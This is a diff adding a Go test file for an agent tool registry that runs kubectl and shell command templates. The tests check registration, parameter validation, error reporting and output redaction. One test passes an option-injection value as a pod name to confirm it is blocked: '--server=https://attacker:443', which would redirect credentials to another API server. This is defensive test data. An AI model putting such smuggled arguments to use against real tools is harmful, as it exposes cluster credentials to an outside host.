@@ -0,0 +1,151 @@
+package tool
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"agent-samples/pkg/tool/impl"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestInitToolRegistersLocalTools(t *testing.T) {
+	require.NoError(t, InitTool("../../config/tool/tools.yaml"))
+
+	for _, name := range []string{"get_pods", "describe_pod", "top_nodes", "get_events", "check_disk_usage"} {
+		assert.NotNil(t, GetTool(name), name)
+	}
+
+	info, err := GetTool("describe_pod").Info(context.Background())
+	require.NoError(t, err)
+	params, err := info.ParamsOneOf.ToJSONSchema()
+	require.NoError(t, err)
+	_, hasNode := params.Properties.Get("node")
+	assert.False(t, hasNode)
+	assert.Contains(t, params.Required, "pod_name")
+
+	// 参数不能注入kubectl选项，如把凭据发送到其他apiserver
+	_, err = GetTool("describe_pod").InvokableRun(context.Background(), `{"pod_name": "--server=https://attacker:443"}`)
+	assert.True(t, impl.IsPolicyError(err))
+	_, err = GetTool("get_pods").InvokableRun(context.Background(), `{"namespace": "-A"}`)
+	assert.True(t, impl.IsPolicyError(err))
+
+	// bash工具的nodeAuths需要被正确解析
+	info, err = GetTool("check_disk_usage").Info(context.Background())
+	require.NoError(t, err)
+	params, err = info.ParamsOneOf.ToJSONSchema()
+	require.NoError(t, err)
+	node, hasNode := params.Properties.Get("node")
+	require.True(t, hasNode)
+	assert.Contains(t, node.Description, "master")
+}
+
+func TestLocalToolRun(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "tools.yaml")
+	require.NoError(t, os.WriteFile(path, []byte(`
+local_tools:
+  - toolName: "shell"
+    authConfig:
+      type: "none"
+    execTemplates:
+      - name: "echo"
+        description: "回显输入"
+        exec: "echo {{.msg}}"
+        parameters:
+          - name: "msg"
+            description: "内容"
+            required: true
+`), 0o644))
+	require.NoError(t, InitTool(path))
+
+	out, err := GetTool("echo").InvokableRun(context.Background(), `{"msg": "hello"}`)
+	require.NoError(t, err)
+	assert.Equal(t, "hello\n", out)
+}
+
+func TestInitToolSkipsDisabled(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "tools.yaml")
+	require.NoError(t, os.WriteFile(path, []byte(`
+local_tools:
+  - toolName: "shell"
+    enabled: false
+    execTemplates:
+      - name: "echo"
+        exec: "echo hi"
+`), 0o644))
+	require.NoError(t, InitTool(path))
+	assert.Nil(t, GetTool("echo"))
+}
+
+func TestInitToolReportsBuildErrors(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "tools.yaml")
+	require.NoError(t, os.WriteFile(path, []byte(`
+inner_tools:
+  - toolName: "bash"
+    authConfig:
+      type: "none"
+    execTemplates:
+      - name: "grep_log"
+        exec: "grep {{.keyword}} /var/log/messages"
+        parameters:
+          - name: "keyword"
+            raw: true
+local_tools:
+  - toolName: "shell"
+    execTemplates:
+      - name: "echo"
+        exec: "echo {{.msg}}"
+        parameters:
+          - name: "msg"
+            pattern: "[a-z"
+`), 0o644))
+	err := InitTool(path)
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "grep_log: parameter keyword: raw requires pattern or enum")
+	assert.Contains(t, err.Error(), "echo: parameter msg has invalid pattern")
+}
+
+func TestRedactionPerTemplate(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "tools.yaml")
+	require.NoError(t, os.WriteFile(path, []byte(`
+redaction:
+  default: ["password"]
+local_tools:
+  - toolName: "shell"
+    authConfig:
+      type: "none"
+    redact: ["email"]
+    execTemplates:
+      - name: "echo"
+        description: "回显输入"
+        exec: "echo {{.msg}}"
+      - name: "ip"
+        description: "输出ip"
+        exec: "echo 10.0.0.1"
+        redact: ["ipv4"]
+`), 0o644))
+	require.NoError(t, InitTool(path))
+
+	out, stats := Redact("echo", "password=abc ops@example.com")
+	assert.Equal(t, "password=abc [REDACTED:email]", out)
+	assert.Equal(t, 1, stats["email"])
+
+	out, _ = Redact("ip", "10.0.0.1 ops@example.com")
+	assert.Equal(t, "[REDACTED:ipv4] ops@example.com", out)
+
+	// 未知工具使用全局默认规则
+	out, _ = Redact("unknown", "password=abc")
+	assert.Equal(t, "password=[REDACTED:password]", out)
+}
+
+func TestRedactionUnknownRule(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "tools.yaml")
+	require.NoError(t, os.WriteFile(path, []byte(`
+redaction:
+  default: ["missing"]
+`), 0o644))
+	assert.Error(t, InitTool(path))
+}